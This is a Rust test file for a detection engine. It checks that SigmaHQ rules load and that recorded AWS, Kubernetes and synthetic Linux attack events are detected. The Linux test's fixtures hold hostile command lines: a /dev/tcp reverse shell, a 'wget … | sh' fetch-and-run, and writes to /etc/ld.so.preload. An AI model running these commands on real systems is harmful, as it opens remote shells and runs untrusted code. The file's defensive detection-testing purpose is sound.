//! Rules and records that nobody here wrote: SigmaHQ's load as they are, and recorded attacks are found with them.
//! They are not in the project: where they are not at hand, these tests say so.

use super::*;
use quell_model::{Event, Field};
use serde_json::json;
use std::collections::BTreeSet;
use std::io::Write;
use std::path::PathBuf;

/// A part of the shared data, beside the project.
fn shared(part: &str) -> Option<PathBuf> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data").join(part);
    if path.exists() {
        return Some(path);
    }
    // Past the test's own output, which nobody sees of one that passes.
    writeln!(std::io::stderr(), "NOT TESTED: {part} is not at {}", path.display()).unwrap();
    None
}

#[test]
fn every_rule_loads() {
    for part in ["sigma/linux", "sigma/cloud", "sigma/application"] {
        let Some(dir) = shared(part) else { continue };
        let (rules, report) = Rules::load(&[RuleSource::Dir(dir)], &[]);
        assert!(report.skipped.is_empty(), "{part}: {:?}", report.skipped);
        assert!(report.passed_over.is_empty(), "{part}: {:?}", report.passed_over);
        assert_eq!(rules.len(), report.files, "{part}");
        let blind: BTreeSet<&str> =
            report.never_fires().map(|(_, why)| why).filter(|why| !why.contains("service")).collect();
        let wanted = if part == "sigma/linux" { &["no source gives `DestinationHostname`"][..] } else { &[] };
        assert_eq!(
            blind.into_iter().collect::<Vec<_>>(),
            wanted,
            "{part}: the others of a source that quell has can fire"
        );
    }
}

#[test]
fn recorded_attacks_on_aws_are_found() {
    let (Some(rules), Some(records)) = (shared("sigma/cloud/aws"), shared("cloudtrail")) else { return };
    let (rules, _) = Rules::load(&[RuleSource::Dir(rules)], &[]);
    let rules = Arc::new(rules);
    let mut found = BTreeSet::new();
    for entry in std::fs::read_dir(records).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|end| end != "json") {
            continue;
        }
        let input = std::io::BufReader::new(std::fs::File::open(&path).unwrap());
        let mut detector = Detector::new(rules.clone());
        for event in crate::adapt::read(None, &path, input) {
            let event = event.unwrap_or_else(|wrong| panic!("{}", wrong.mistake.what));
            for detection in run(&mut detector, &event) {
                let stem = path.file_stem().unwrap().to_string_lossy().into_owned();
                found.insert(format!("{stem}: {}", detection.rule.title));
            }
        }
    }
    for wanted in [
        "aws.defense-evasion.cloudtrail-stop: AWS CloudTrail Important Change",
        "aws.defense-evasion.cloudtrail-delete: AWS CloudTrail Important Change",
    ] {
        assert!(found.contains(wanted), "{wanted}: {found:#?}");
    }
}

/// What a real API server (1.34) wrote of real requests to it, by deploy/kubernetes/audit-policy.yaml.
const RECORDED: &str = include_str!("../../adapt/tests/kubernetes-audit.jsonl");

#[test]
fn recorded_attacks_on_kubernetes_are_found() {
    let Some(dir) = shared("sigma/application/kubernetes") else { return };
    let (rules, _) = Rules::load(&[RuleSource::Dir(dir)], &[]);
    let all: BTreeSet<String> = rules.refs().map(|rule| rule.title.to_string()).collect();
    let mut detector = Detector::new(Arc::new(rules));
    let mut found = BTreeSet::new();
    for event in crate::adapt::read(
        Some(crate::adapt::Format::KubernetesAudit),
        std::path::Path::new("audit.log"),
        RECORDED.as_bytes(),
    ) {
        let event = event.unwrap_or_else(|wrong| panic!("{}", wrong.mistake.what));
        let Some(Field::Str(action)) = event.own("cloud.action") else { panic!("{event:?}") };
        let action = action.into_owned();
        found.extend(run(&mut detector, &event).iter().map(|detection| format!("{}: {action}", detection.rule.title)));
    }
    for wanted in [
        "Deployment Deleted From Kubernetes Cluster: delete deployments",
        "Kubernetes CronJob/Job Modification: create cronjobs",
        "Kubernetes CronJob/Job Modification: create jobs",
        "Kubernetes Secrets Modified or Deleted: create secrets",
        "Kubernetes Secrets Modified or Deleted: delete secrets",
        "Kubernetes Unauthorized or Unauthenticated Access: list pods",
        "Kubernetes Unauthorized or Unauthenticated Access: list secrets",
        "New Kubernetes Service Account Created: create serviceaccounts",
        "Potential Sidecar Injection Into Running Deployment: patch deployments",
        "RBAC Permission Enumeration Attempt: create selfsubjectrulesreviews",
    ] {
        assert!(found.contains(wanted), "{wanted}: {found:#?}");
    }
    // It asks for `responseStatus.code: ALLOW`, and in an audit event that is the number of HTTP: no event of an API server matches.
    let never: Vec<&String> =
        all.iter().filter(|title| !found.iter().any(|one| one.starts_with(title.as_str()))).collect();
    assert_eq!(never, ["Kubernetes Potential Enumeration Activity"]);
}

#[test]
fn attacks_on_linux_are_found_and_explained() {
    let Some(dir) = shared("sigma/linux") else { return };
    let (rules, _) = Rules::load(&[RuleSource::Dir(dir)], &[]);
    let mut detector = Detector::new(Arc::new(rules));
    let run_of = |image: &str, args: &[&str], parent: &str| {
        let line = args.join(" ");
        event(
            Class::ProcessCreation,
            &line,
            0,
            json!({"Image": image, "CommandLine": line, "ParentImage": parent, "User": "www-data"}),
            json!({"process": {"image": image, "args": args, "command_line": line}}),
        )
    };
    let write = |path: &str| {
        let own = json!({"process": {"image": "/usr/bin/tee"}, "file": {"path": path, "operation": "create"}});
        event(Class::FileEvent, path, 0, json!({"TargetFilename": path, "Image": "/usr/bin/tee"}), own)
    };
    let rows = [
        (
            run_of("/usr/bin/bash", &["bash", "-c", "sh -i >& /dev/tcp/203.0.113.7/4444 0>&1"], "/usr/sbin/apache2"),
            "process_creation",
        ),
        (run_of("/usr/bin/base64", &["base64", "-d", "payload"], "/usr/bin/bash"), "process_creation"),
        (run_of("/usr/sbin/getcap", &["getcap", "-r", "/"], "/usr/bin/bash"), "auditd"),
        (run_of("/usr/bin/wget", &["wget", "http://203.0.113.7/x"], "/usr/bin/bash"), "auditd"),
        (run_of("/usr/bin/truncate", &["truncate", "-s", "+1G", "/tmp/x"], "/usr/bin/bash"), "auditd keywords"),
        (
            run_of("/usr/bin/bash", &["bash", "-c", "wget -qO - http://203.0.113.7 | sh"], "/usr/sbin/nginx"),
            "shell keywords",
        ),
        (write("/etc/ld.so.preload"), "auditd"),
        (write("/etc/profile.d/x.sh"), "file_event"),
    ];
    for (event, source) in rows {
        let found = run(&mut detector, &event);
        let titles: Vec<&str> = found.iter().map(|detection| &*detection.rule.title).collect();
        println!("{}: {titles:?}", event.head.id);
        assert!(!found.is_empty(), "{source}: {}", event.head.id);
        for detection in &found {
            assert!(!detection.matched.is_empty(), "{}: nothing explains it", detection.rule.title);
        }
    }
    let honest = run_of("/usr/bin/ls", &["ls", "-l", "/srv"], "/usr/bin/bash");
    assert_eq!(names(&run(&mut detector, &honest)), Vec::<&str>::new());
}
